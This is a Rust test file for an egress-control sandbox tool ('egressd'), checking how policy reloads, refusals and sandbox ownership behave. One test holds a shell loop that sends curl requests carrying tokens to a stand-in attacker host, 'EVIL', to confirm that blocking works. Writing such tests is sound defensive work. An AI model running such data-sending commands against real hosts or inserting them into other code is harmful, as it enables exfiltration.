//! `egressd reload`: another policy for whoever is served.

use super::{Job, SOON, end};
use lab::{DNS, EVIL, Lab, OK, Output, until};
use nix::sys::signal::Signal;

fn policy(allow: &str) -> String {
    format!("version = 1\n[allow]\n{allow}\n[dns]\nservers = [\"{DNS}\"]\npre_resolve = \"off\"\n")
}

fn reload(lab: &Lab, flags: &str) -> Output {
    lab.egressd("reload").flags(flags).output()
}

#[test]
fn a_reload_is_in_force_when_it_returns_and_a_refused_one_changes_nothing() {
    let lab = Lab::new();
    let job = Job::new(&lab, "job");
    let before = lab.snapshot();
    let file = lab.file("ci.toml", &policy("names = [\"ok.test\"]"));
    let other = lab.file("other.toml", &policy("names = [\"a.test\"]\n[bandwidth]\negress = \"20mbit\""));
    let attach = job.attached(&format!("--policy {}", file.display()));
    let reach = |target: &str, token: &str| job.curl(target, &lab.token(token));
    assert_eq!((reach("ok.test", "first"), reach("a.test", "closed")), (Some(0), Some(6)));

    let one = format!("--cgroup {}", job.path());
    reload(&lab, &format!("{one} --policy {}", other.display())).exits(0).says("generation 2");
    assert_eq!((reach("a.test", "second"), reach("ok.test", "closed")), (Some(0), Some(6)));
    assert_eq!(reach(&OK.to_string(), "closed"), Some(7), "what was learned goes too");
    assert_eq!(job.status().1["bandwidth"]["egress"]["rate"], 20_000_000);

    // Its own file again, which says something else by now. There is one sandbox: nobody has to name it.
    lab.file("ci.toml", &policy(&format!("addresses = [\"{EVIL}\"]")));
    reload(&lab, "").exits(0).says("generation 3");
    assert_eq!((reach(&EVIL.to_string(), "third"), reach("a.test", "closed")), (Some(0), Some(6)));
    assert_eq!(job.status().1["bandwidth"], serde_json::Value::Null);

    // Wrong for whoever asks, for whoever serves, and for the sandbox that is there.
    lab.file("ci.toml", "version = 1\n[allow]\nnames = 7\n");
    let unix = lab.file("unix.toml", &policy("unix = \"none\""));
    reload(&lab, &format!("--policy {}", file.display())).exits(2).says("ci.toml");
    reload(&lab, "").exits(2).says("stays in force").says("ci.toml");
    reload(&lab, &format!("--policy {}", unix.display())).exits(2).says("stays in force").says("unix");
    assert_eq!((reach(&EVIL.to_string(), "fourth"), job.status().1["generation"].as_u64()), (Some(0), Some(3)));

    end(attach, Signal::SIGINT).exits(0);
    assert_eq!(before.diff(&lab.snapshot()), Vec::<String>::new());
    for token in ["first", "second", "third", "fourth"] {
        lab.expect_hits(&lab.token(token), 1);
    }
    assert_eq!(lab.hits(&lab.token("closed")).len(), 0);
}

#[test]
fn a_command_of_run_gets_more_while_it_runs() {
    let lab = Lab::new();
    let (before, after) = (lab.token("before"), lab.token("after"));
    let script = format!(
        "curl -sS -m3 http://{EVIL}/{before}; echo asked; until curl -sS -m1 http://{EVIL}/{after}; do sleep 0.05; done; echo reached"
    );
    let nothing = lab.snapshot();
    let running = lab.egressd("run").flags(&format!("--allow {OK}")).sh(&script).spawn();
    until(SOON, "it was refused", || running.stdout().contains("asked"));
    reload(&lab, &format!("--allow {OK} --allow {EVIL}")).exits(0).says("generation 2");
    running.finish(SOON).exits(0).says("reached");
    lab.expect_hits(&after, 1);
    assert_eq!(lab.hits(&before).len(), 0);
    assert_eq!(nothing.diff(&lab.snapshot()), Vec::<String>::new());
}

#[test]
fn who_is_not_served_is_told_how_to_be() {
    let lab = Lab::new();
    let job = Job::new(&lab, "job");
    let flags = format!("--cgroup {} --allow {EVIL}", job.path());
    reload(&lab, &flags).exits(2).says("no sandbox");
    job.attach(&format!("--allow {OK} --pin")).output().exits(0);
    reload(&lab, &flags).exits(2).says("egressd attach");
    job.detach().exits(0);

    let mut owner = job.attached(&format!("--allow {OK}"));
    owner.signal(Signal::SIGKILL);
    owner.wait(SOON);
    reload(&lab, &flags).exits(2).says("egressd attach");
    assert_eq!(job.curl(&EVIL.to_string(), &lab.token("closed")), Some(7));
    // As it was told: the next owner has a socket of its own.
    let owner = job.attached(&format!("--allow {OK}"));
    reload(&lab, &flags).exits(0).says("generation");
    assert_eq!(job.curl(&EVIL.to_string(), &lab.token("open")), Some(0));
    end(owner, Signal::SIGINT).exits(0);
    assert_eq!(lab.hits(&lab.token("closed")).len(), 0);
}
